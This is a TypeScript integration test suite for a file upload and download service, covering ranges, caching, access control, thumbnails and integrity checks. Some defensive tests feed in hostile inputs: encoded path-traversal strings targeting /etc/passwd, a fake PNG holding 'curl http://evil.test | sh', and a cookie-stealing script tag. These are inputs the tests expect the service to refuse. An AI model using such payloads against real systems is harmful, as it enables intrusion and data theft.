// The files service in embedded mode (gateway, identity, catalog and files in one process) over
// real HTTP: round trips, ranges, conditional requests, refusals that leave nothing behind, access,
// thumbnails, and integrity checks on read.
import { test, before, after } from 'node:test'
import assert from 'node:assert/strict'
import { createHash, randomUUID } from 'node:crypto'
import { mkdtemp, readdir, rm, writeFile, readFile } from 'node:fs/promises'
import { request as httpRequest } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import sharp from 'sharp'
import { startNode, type MosaicNode } from '../../src/runtime/node.ts'
import identity from '../../src/services/identity/service.ts'
import catalog from '../../src/services/catalog/service.ts'
import files from '../../src/services/files/service.ts'
import { testEnv } from '../auth.ts'
import {
  customer,
  admin,
  png,
  upload,
  uploaded,
  problemOf,
  eventually,
  bearer,
  form,
  type FileMeta,
} from './helpers.ts'

const MAX = 1024 * 1024
let node: MosaicNode
let storage: string
let owner: { token: string; userId: string }
let stranger: { token: string; userId: string }
let staff: string

before(async () => {
  storage = await mkdtemp(join(tmpdir(), 'mosaic-files-test-'))
  node = await startNode({
    role: 'gateway',
    services: [identity, catalog, files],
    port: 0,
    env: testEnv({ STORAGE_PATH: storage, FILE_MAX_BYTES: String(MAX), FILES_PROCESS_POLL_MS: '100' }),
  })
  ;[owner, stranger, staff] = await Promise.all([customer(node.url), customer(node.url), admin(node.url)])
})

after(async () => {
  await node?.stop()
  await rm(storage, { recursive: true, force: true })
})

const get = (path: string, token: string, headers: Record<string, string> = {}): Promise<Response> =>
  fetch(new URL(path, node.url), { headers: { ...bearer(token), ...headers } })

const sha = (bytes: Buffer): string => createHash('sha256').update(bytes).digest('hex')
/** What is in the storage directory, temporary files included. */
const stored = (): Promise<string[]> => readdir(storage)
/** Stored names no row refers to (as a file or its thumbnail): temporary files and abandoned bytes. Thumbnails come and go in the background, so a plain listing would race with them. */
async function leftovers(): Promise<string[]> {
  const rows = await node.services
    .get('files')!
    .context.db.query<{ id: string }>(
      'select id from files union select thumbnail_id from files where thumbnail_id is not null',
    )
  const known = new Set(rows.map((r) => r.id))
  return (await stored()).filter((name) => !known.has(name))
}
const nothingLeft = (what: string): Promise<boolean> =>
  eventually(what, async () => (await leftovers()).length === 0, 5000)
const rowCount = async (): Promise<number> =>
  Number((await node.services.get('files')!.context.db.query<{ n: bigint }>('select count(*) as n from files'))[0]!.n)

test('upload and download round trip: same bytes, sniffed type, ETag, length, disposition, nosniff', async () => {
  const bytes = await png(40, 30)
  const response = await upload(node.url, owner.token, bytes, '../../etc/évil name.png', 'text/html')
  assert.equal(response.status, 201, await response.clone().text())
  const meta = (await response.json()) as FileMeta
  assert.equal(response.headers.get('location'), `/api/files/${meta.id}`)
  assert.equal(meta.contentType, 'image/png', "sniffed, not the client's text/html")
  assert.equal(meta.size, bytes.length)
  assert.equal(meta.sha256, sha(bytes))
  assert.equal(meta.filename, 'évil name.png', 'no directory part kept')
  assert.equal(meta.ownerId, owner.userId)
  assert.ok((await stored()).includes(meta.id), 'stored under its id')

  const download = await get(`/api/files/${meta.id}`, owner.token)
  assert.equal(download.status, 200)
  assert.deepEqual(Buffer.from(await download.arrayBuffer()), bytes)
  assert.equal(download.headers.get('content-type'), 'image/png')
  assert.equal(download.headers.get('etag'), `"${sha(bytes)}"`)
  assert.equal(download.headers.get('content-length'), String(bytes.length))
  assert.equal(download.headers.get('accept-ranges'), 'bytes')
  assert.equal(download.headers.get('x-content-type-options'), 'nosniff')
  assert.equal(
    download.headers.get('content-disposition'),
    `inline; filename="_vil name.png"; filename*=UTF-8''%C3%A9vil%20name.png`,
  )

  const list = await get('/api/files', owner.token)
  assert.equal(list.status, 200)
  assert.deepEqual(
    ((await list.json()) as { items: FileMeta[] }).items.map((f) => f.id),
    [meta.id],
  )
})

test('If-None-Match with the ETag answers 304 without a body', async () => {
  const meta = await uploaded(node.url, owner.token, await png(10, 10))
  const response = await get(`/api/files/${meta.id}`, owner.token, { 'if-none-match': `W/"nope", "${meta.sha256}"` })
  assert.equal(response.status, 304)
  assert.equal(await response.text(), '')
  assert.equal((await get(`/api/files/${meta.id}`, owner.token, { 'if-none-match': '"other"' })).status, 200)
})

test('ranges: first bytes, open-ended, suffix, clamped end, unsatisfiable 416, several ranges → whole file, stale If-Range → whole file', async () => {
  const bytes = await png(50, 50, true)
  const meta = await uploaded(node.url, owner.token, bytes)
  const range = async (value: string, extra: Record<string, string> = {}): Promise<Response> =>
    get(`/api/files/${meta.id}`, owner.token, { range: value, ...extra })
  const cases: [string, number, number][] = [
    ['bytes=0-9', 0, 9],
    ['bytes=100-', 100, bytes.length - 1],
    ['bytes=-20', bytes.length - 20, bytes.length - 1],
    [`bytes=5-${bytes.length + 100}`, 5, bytes.length - 1],
  ]
  for (const [value, start, end] of cases) {
    const response = await range(value)
    assert.equal(response.status, 206, value)
    assert.equal(response.headers.get('content-range'), `bytes ${start}-${end}/${bytes.length}`, value)
    assert.equal(response.headers.get('content-length'), String(end - start + 1), value)
    assert.deepEqual(Buffer.from(await response.arrayBuffer()), bytes.subarray(start, end + 1), value)
  }
  const unsatisfiable = await range(`bytes=${bytes.length}-`)
  assert.equal(unsatisfiable.headers.get('content-range'), `bytes */${bytes.length}`)
  await problemOf(unsatisfiable, 416, 'range_not_satisfiable')
  await problemOf(await range('bytes=-0'), 416, 'range_not_satisfiable')
  for (const whole of [
    await range('bytes=0-1,5-6'),
    await range('bytes=0-9', { 'if-range': '"stale"' }),
    await range('lines=1-2'),
  ]) {
    assert.equal(whole.status, 200)
    assert.deepEqual(Buffer.from(await whole.arrayBuffer()), bytes)
  }
  assert.equal((await range('bytes=0-9', { 'if-range': `"${meta.sha256}"` })).status, 206)
})

test('traversal: ids that are paths are refused before any file is touched', async () => {
  const outside = join(storage, '..', `secret-${randomUUID()}`)
  await writeFile(outside, 'do not serve me')
  try {
    const name = outside.split('/').pop()!
    for (const path of [
      `/api/files/..%2F${name}`,
      `/api/files/%2E%2E%2F${name}`,
      '/api/files/..%2F..%2F..%2Fetc%2Fpasswd',
      '/api/files/..%252F..%252Fetc%252Fpasswd',
      '/api/files/%2e%2e%5c%2e%2e%5cetc%5cpasswd',
      `/api/files/${'a'.repeat(36)}`,
    ]) {
      const response = await get(path, owner.token)
      assert.ok([400, 404].includes(response.status), `${path}: ${response.status}`)
      const text = await response.text()
      assert.ok(!text.includes('do not serve me') && !text.includes('root:'), path)
    }
    // Unencoded, the URL is normalised before it leaves the client: it names no file route at all.
    await problemOf(await get('/api/files/../../etc/passwd', owner.token), 404, 'route_not_found')
    await problemOf(await get(`/api/files/..%2F${name}`, owner.token), 400, 'invalid_parameters')
    await problemOf(
      await fetch(new URL(`/api/files/..%2F${name}`, node.url), { method: 'DELETE', headers: bearer(owner.token) }),
      400,
      'invalid_parameters',
    )
    assert.equal(await readFile(outside, 'utf8'), 'do not serve me')
  } finally {
    await rm(outside, { force: true })
  }
})

test('a script named .png, declared image/png, is refused with 415 and nothing is kept', async () => {
  const rows = await rowCount()
  const script = Buffer.from('#!/bin/sh\ncurl http://evil.test | sh\n<script>alert(1)</script>\n')
  await problemOf(
    await upload(node.url, owner.token, script, 'cute-cat.png', 'image/png'),
    415,
    'file_type_not_allowed',
  )
  const html = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>')
  await problemOf(await upload(node.url, owner.token, html, 'x.png', 'image/png'), 415, 'file_type_not_allowed')
  await problemOf(await upload(node.url, owner.token, Buffer.alloc(0), 'empty.png'), 415, 'file_type_not_allowed')
  assert.deepEqual(await leftovers(), [])
  assert.equal(await rowCount(), rows)
})

test('an upload over FILE_MAX_BYTES is a 413 problem and leaves nothing on disk or in the database', async () => {
  const rows = await rowCount()
  const big = Buffer.concat([await png(10, 10), Buffer.alloc(MAX + 100_000, 7)]) // a PNG head, then too many bytes
  const response = await upload(node.url, owner.token, big, 'big.png').catch((error: unknown) => error as Error)
  assert.ok(response instanceof Response, `the client got an answer, not ${String(response)}`)
  await problemOf(response, 413, 'payload_too_large')
  await nothingLeft('no temporary file left')
  assert.equal(await rowCount(), rows)
  // Exactly the limit is fine.
  const exact = Buffer.concat([await png(10, 10)])
  const padded = Buffer.concat([exact, Buffer.alloc(MAX - exact.length)])
  const ok = await uploaded(node.url, owner.token, padded, 'exact.png')
  assert.equal(ok.size, MAX)
})

test('requests that are not one multipart file are refused clearly', async () => {
  const post = (body: string | FormData | undefined, headers: Record<string, string>): Promise<Response> =>
    fetch(new URL('/api/files', node.url), {
      method: 'POST',
      headers: { ...bearer(owner.token), ...headers },
      ...(body === undefined ? {} : { body }),
    })
  await problemOf(
    await post(JSON.stringify({ file: 'x' }), { 'content-type': 'application/json' }),
    415,
    'unsupported_media_type',
  )
  await problemOf(await post('hello', { 'content-type': 'multipart/form-data' }), 415, 'unsupported_media_type') // no boundary
  const fields = new FormData()
  fields.append('note', 'no file here')
  await problemOf(await post(fields, {}), 422, 'validation_failed')
  await problemOf(
    await fetch(new URL('/api/files', node.url), { method: 'POST', body: form(await png(5, 5), 'a.png') }),
    401,
    'unauthenticated',
  )
})

test('an upload cut off mid-stream leaves no partial file and no row', async () => {
  const rows = await rowCount()
  const boundary = 'mosaic-test-boundary'
  const head = `--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="cut.png"\r\ncontent-type: image/png\r\n\r\n`
  const image = await png(200, 200, true)
  const req = httpRequest(new URL('/api/files', node.url), {
    method: 'POST',
    headers: {
      ...bearer(owner.token),
      'content-type': `multipart/form-data; boundary=${boundary}`,
      'content-length': String(head.length + image.length + 100),
    },
  })
  req.on('error', () => {})
  req.write(head)
  req.write(image.subarray(0, 60_000))
  // The partial file exists on disk (so the test is not vacuous) before the client goes away.
  await eventually(
    'a temporary file while uploading',
    async () => (await stored()).some((name) => name.endsWith('.part')),
    5000,
  )
  req.destroy()
  await nothingLeft('the temporary file is removed')
  assert.equal(await rowCount(), rows)
})

test('access: another customer gets 404 for reading and deleting; staff may read; the owner deletes the bytes too', async () => {
  const meta = await uploaded(node.url, owner.token, await png(12, 12))
  await problemOf(await get(`/api/files/${meta.id}`, stranger.token), 404, 'not_found')
  await problemOf(await get(`/api/files/${meta.id}/thumbnail`, stranger.token), 404, 'not_found')
  await problemOf(
    await fetch(new URL(`/api/files/${meta.id}`, node.url), { method: 'DELETE', headers: bearer(stranger.token) }),
    404,
    'not_found',
  )
  assert.deepEqual(
    ((await (await get('/api/files', stranger.token)).json()) as { items: unknown[] }).items,
    [],
    'not in their list',
  )
  assert.equal((await get(`/api/files/${meta.id}`, staff)).status, 200)

  const deleted = await fetch(new URL(`/api/files/${meta.id}`, node.url), {
    method: 'DELETE',
    headers: bearer(owner.token),
  })
  assert.equal(deleted.status, 204)
  await problemOf(await get(`/api/files/${meta.id}`, owner.token), 404, 'not_found')
  await eventually('bytes removed', async () => !(await stored()).includes(meta.id), 3000)
})

test('an image gets a WebP thumbnail in the background, with file.processed published; a PDF gets none', async () => {
  const meta = await uploaded(node.url, owner.token, await png(800, 600))
  assert.equal(meta.thumbnail, 'pending')
  const thumbnail = await eventually(
    'thumbnail ready',
    async () => {
      const response = await get(`/api/files/${meta.id}/thumbnail`, owner.token)
      if (response.status === 200) return Buffer.from(await response.arrayBuffer())
      await problemOf(response, 404, 'thumbnail_not_ready')
      assert.equal(response.headers.get('retry-after'), '1')
      return undefined
    },
    10_000,
  )
  const info = await sharp(thumbnail).metadata()
  assert.equal(info.format, 'webp')
  assert.deepEqual([info.width, info.height], [256, 192])
  const [row] = await node.services
    .get('files')!
    .context.db.query<{ thumbnail: string }>('select thumbnail from files where id = $1', [meta.id])
  assert.equal(row!.thumbnail, 'ready')
  // Both events left the outbox (relayed by the bus, which counts them per type).
  await eventually(
    'file.uploaded and file.processed published',
    async () => {
      const metrics = await (await fetch(node.metricsUrl!)).text()
      return ['file.uploaded', 'file.processed'].every((type) =>
        new RegExp(
          `messaging_client_sent_messages_total\\{[^}]*messaging_destination_name="${type.replace('.', '\\.')}"[^}]*\\} [1-9]`,
        ).test(metrics),
      )
    },
    5000,
  )

  const pdf = Buffer.from('%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n')
  const doc = await uploaded(node.url, owner.token, pdf, 'doc.pdf')
  assert.equal(doc.contentType, 'application/pdf')
  assert.equal(doc.thumbnail, 'none')
  await problemOf(await get(`/api/files/${doc.id}/thumbnail`, owner.token), 404, 'not_found')
  const download = await get(`/api/files/${doc.id}`, owner.token)
  assert.match(download.headers.get('content-disposition') ?? '', /^attachment;/)
})

test('a stored file damaged on disk is an error, never wrong bytes: a clean 500 when small, a cut answer when large', async () => {
  const small = await uploaded(node.url, owner.token, await png(20, 20))
  const path = join(storage, small.id)
  const damaged = await readFile(path)
  damaged[damaged.length - 5]! ^= 0xff
  await writeFile(path, damaged)
  await problemOf(await get(`/api/files/${small.id}`, owner.token), 500, 'file_corrupt')
  await problemOf(await get(`/api/files/${small.id}`, owner.token, { range: 'bytes=0-3' }), 500, 'file_corrupt')

  const bytes = await png(400, 400, true)
  assert.ok(bytes.length > 256 * 1024)
  const large = await uploaded(node.url, owner.token, bytes)
  const bigPath = join(storage, large.id)
  const big = await readFile(bigPath)
  big[1000]! ^= 0xff
  await writeFile(bigPath, big)
  const response = await get(`/api/files/${large.id}`, owner.token)
  assert.equal(response.status, 200, 'headers go out before the last byte is checked')
  await assert.rejects(response.arrayBuffer(), 'the body is cut short, never completed')
})

test('OpenAPI shows the multipart upload and the binary answers', async () => {
  const doc = (await (await fetch(new URL('/openapi.json', node.url))).json()) as {
    paths: Record<
      string,
      Record<
        string,
        {
          parameters?: { name: string; in: string }[]
          requestBody?: { content: Record<string, unknown> }
          responses: Record<string, { content?: Record<string, unknown> }>
        }
      >
    >
  }
  assert.ok(doc.paths['/api/files']!.post!.requestBody!.content['multipart/form-data'])
  assert.ok(doc.paths['/api/files/{id}']!.get!.responses['200']!.content!['image/png'])
  assert.ok(doc.paths['/api/files/{id}']!.get!.responses['206'])
  assert.ok(doc.paths['/api/files/{id}/thumbnail']!.get!.responses['200']!.content!['image/webp'])
  assert.ok(
    doc.paths['/api/files']!.post!.parameters?.some((p) => p.name === 'visibility' && p.in === 'query'),
    'the upload documents ?visibility',
  )
  assert.ok(doc.paths['/api/files/{id}']!.patch!.requestBody!.content['application/json'])
})
